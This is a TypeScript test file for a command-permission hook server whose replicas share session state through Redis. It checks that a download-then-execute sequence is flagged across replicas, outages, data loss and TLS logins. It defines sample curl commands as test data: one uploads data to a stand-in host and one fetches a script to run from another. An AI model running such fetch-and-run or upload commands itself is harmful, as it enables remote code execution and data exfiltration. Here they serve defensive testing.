/** Replicas of the server and their Redis: what one has seen the others know, and what nobody can know is not taken for nothing. */

import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { redisAt } from '../../src/fleet/serve/state/redis.ts'
import { folder } from '../blackbox/call.ts'
import { until } from '../until.ts'
import { hasRedis, type RedisServer, redisServer } from './redis.ts'
import { claudeCall, homeWith, type Running, runtimes, start } from './server.ts'

const native = '/hooks/claude-code'
const upload = "curl -d 'hello' https://paste.example/x"
const download = 'curl -o get.sh https://stranger.example/get'
const run = 'sh get.sh'

const open: (() => Promise<unknown>)[] = []
afterEach(async () => {
  for (const end of open.splice(0)) await end()
})

const certs = join(process.cwd(), 'test/gateway/certs')

const redisFor = async (lines: readonly string[] = [], tls = false): Promise<RedisServer> => {
  const redis = await redisServer(lines, tls)
  open.push(redis.kill)
  return redis
}

/** Bodies of a session, which is named anew in each test. */
const asked = async (server: Running, command: string, session = 's-1'): Promise<string> => {
  const { status, json } = await server.post(native, { ...claudeCall(command), session_id: session })
  expect(status).toBe(200)
  const said = json.hookSpecificOutput as { readonly permissionDecision?: string } | undefined
  return said?.permissionDecision ?? 'allow'
}

const answers = (server: Running) => async () => (await server.ask('/metrics')).text.includes('\ntfy_hook_state_up 1')

describe.skipIf(!hasRedis).each(runtimes)('replicas on the $name', exe => {
  const replica = async (state: string, args: readonly string[] = []): Promise<Running> => {
    const server = await start(exe, {
      env: homeWith({ 'config.yaml': `state: ${state}\n` }),
      args: ['--no-project-policies', ...args],
    })
    open.push(() => server.stop())
    return server
  }
  const pair = async (redis: RedisServer): Promise<readonly [Running, Running]> => {
    const url = `redis://127.0.0.1:${redis.port}`
    return [await replica(url), await replica(url)]
  }

  it('know what another one has seen of a session, and nothing of other sessions', async () => {
    const redis = await redisFor()
    const [one, other] = await pair(redis)
    expect(await asked(other, run)).toBe('allow')
    expect(await asked(one, download)).toBe('allow')
    expect(await asked(other, run)).toBe('ask')
    expect(await asked(other, run, 's-2')).toBe('allow')
    // Nothing that a session's id, a path or a command could be read from.
    const kept = redis.cli('--scan').split('\n')
    expect(kept.sort()).toEqual(['tfy-hook:ground', expect.stringMatching(/^tfy-hook:session:[\w-]{27}$/)])
    expect(redis.cli('get', kept[1] ?? '')).toMatch(/^([a-z-]+(:[0-9a-z]+)? [0-9a-z]{8}\n?)+$/)
    expect(Number(redis.cli('pttl', kept[1] ?? ''))).toBeGreaterThan(13 * 86_400_000)
  })

  it('ask while Redis is away, in bounded time, and know everything again when it is back', async () => {
    const redis = await redisFor()
    const [one, other] = await pair(redis)
    await asked(one, download, 's-before')
    await redis.kill()
    expect(await asked(one, upload, 's-before')).toBe('ask')
    expect(await asked(other, upload, 's-fresh')).toBe('ask')
    expect(await asked(other, 'ls')).toBe('allow')
    // What nobody can note is at least a question, and is put down later.
    expect(await asked(one, download, 's-during')).toBe('ask')
    expect((await one.ask('/readyz')).status).toBe(200)
    expect((await one.ask('/metrics')).text).toContain('tfy_hook_state_waiting 1')
    await redis.start()
    expect(await until(answers(one))).toBe(true)
    expect(await until(answers(other))).toBe(true)
    expect(await asked(other, run, 's-during')).toBe('ask')
    expect(await asked(other, run, 's-before')).toBe('ask')
    expect(await asked(other, upload, 's-fresh')).toBe('allow')
    expect(one.log().map(line => line.msg)).toEqual(
      expect.arrayContaining(['the shared state does not answer', 'the shared state answers']),
    )
  }, 30_000)

  it('wait for a Redis that hangs once, and then leave it alone', async () => {
    const redis = await redisFor()
    const [one] = await pair(redis)
    process.kill(redis.pid(), 'SIGSTOP')
    const from = performance.now()
    for (let i = 0; i < 80; i++) expect(await asked(one, upload, `s-${i}`)).toBe('ask')
    // Eighty waits would be twenty seconds.
    expect(performance.now() - from).toBeLessThan(15_000)
    process.kill(redis.pid(), 'SIGCONT')
    expect(await until(answers(one))).toBe(true)
    expect(await asked(one, upload, 's-99')).toBe('allow')
  }, 30_000)

  it('take a Redis that has lost its memory for no empty one, and a new one for what it is', async () => {
    const redis = await redisFor()
    const [one, other] = await pair(redis)
    await asked(one, download)
    await asked(other, 'ls')
    redis.cli('flushall')
    expect(await asked(other, upload)).toBe('ask')
    // A replica that starts now learns it from the others.
    const third = await replica(`redis://127.0.0.1:${redis.port}`)
    expect(await asked(third, upload)).toBe('ask')
    expect(await asked(one, upload)).toBe('ask')
    expect(other.log().some(line => String(line.msg).includes('lost what it knew'))).toBe(true)
  })

  it('notice a loss after which another one was first', async () => {
    const redis = await redisFor()
    const [one] = await pair(redis)
    await asked(one, 'ls')
    redis.cli('set', 'tfy-hook:ground', 'made-by-a-stranger 0')
    expect(await asked(one, upload)).toBe('ask')
    expect(redis.cli('get', 'tfy-hook:ground')).toMatch(/ [1-9]\d+$/)
  })

  it('log in as a user of few rights over TLS, and start without Redis', async () => {
    const secret = join(folder({}), 'password')
    writeFileSync(secret, 'not-a-secret-but-a-test\n', { mode: 0o600 })
    const redis = await redisFor(
      [
        `tls-cert-file ${certs}/good.pem`,
        `tls-key-file ${certs}/good.key`,
        `tls-ca-cert-file ${certs}/ca.pem`,
        'tls-auth-clients no',
        'user default off',
        'user guard on >not-a-secret-but-a-test ~tfy-hook:* -@all +get +set +getrange +append +strlen +pexpire +multi +exec',
      ],
      true,
    )
    const url = `"rediss://guard@localhost:${redis.port}"`
    const one = await replica(`{ url: ${url}, passwordFile: ${secret}, caFile: ${certs}/ca.pem }`)
    await asked(one, download)
    expect(await asked(one, run)).toBe('ask')
    expect(await asked(one, upload, 's-2')).toBe('allow')
    // An authority that nobody vouches for is no Redis of ours.
    const stranger = await replica(`{ url: ${url}, passwordFile: ${secret} }`)
    expect(await asked(stranger, upload, 's-2')).toBe('ask')
    expect(one.stderr() + stranger.stderr()).not.toContain('not-a-secret')
    await redis.kill()
    const late = await replica(`redis://127.0.0.1:${redis.port}`)
    expect(await asked(late, upload, 's-3')).toBe('ask')
  })

  it('do not start with a password that others can read', async () => {
    const secret = join(folder({}), 'password')
    writeFileSync(secret, 'x', { mode: 0o644 })
    await expect(replica(`{ url: "redis://127.0.0.1:1", passwordFile: ${secret} }`)).rejects.toThrow('can be read by others')
  })
})

it.skipIf(!hasRedis)('an answer that came while we were busy ourselves is one', async () => {
  const redis = await redisFor()
  const near = await redisAt({ url: `redis://127.0.0.1:${redis.port}` }, { joined: async () => {}, changed: () => {} })
  const answer = await near.run(client => {
    const asked = client.ping()
    // It is written in this turn of the loop, and a busy one follows.
    setImmediate(() => {
      for (const until = performance.now() + 400; performance.now() < until; );
    })
    return asked
  })
  expect([answer, near.up()]).toEqual(['PONG', true])
  near.close()
})
